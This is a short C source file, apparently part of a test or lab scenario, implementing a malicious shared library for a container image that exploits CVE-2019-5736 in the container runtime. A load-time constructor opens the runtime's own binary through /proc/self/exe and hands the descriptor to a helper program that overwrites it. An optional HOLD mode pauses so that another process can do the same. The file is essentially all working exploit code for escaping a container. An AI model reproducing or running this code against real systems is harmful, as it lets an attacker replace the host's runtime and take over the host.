// A library of a hostile image. The runtime loads it when the image makes it run itself inside the
// container (CVE-2019-5736). With HOLD in the environment it writes its pid to /tmp/held and waits
// for /tmp/go, so that another process can open the runtime's program. Otherwise it opens the
// program itself and passes the descriptor to a program that overwrites it.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void hold(void)
{
	FILE *held = fopen("/tmp/held.part", "w");

	fprintf(held, "%d\n", getpid());
	fclose(held);
	rename("/tmp/held.part", "/tmp/held");
	for (int i = 0; i < 2000 && access("/tmp/go", F_OK); i++)
		usleep(5000);
	_exit(0);
}

static void overwrite(void)
{
	char fd[16];

	snprintf(fd, sizeof fd, "%d", open("/proc/self/exe", O_RDONLY));
	execl("/usr/bin/scenario-ops", "scenario-ops", "overwrite", fd, NULL);
	_exit(1);
}

__attribute__((constructor)) static void take_over(void)
{
	if (getenv("HOLD")) hold();
	overwrite();
}
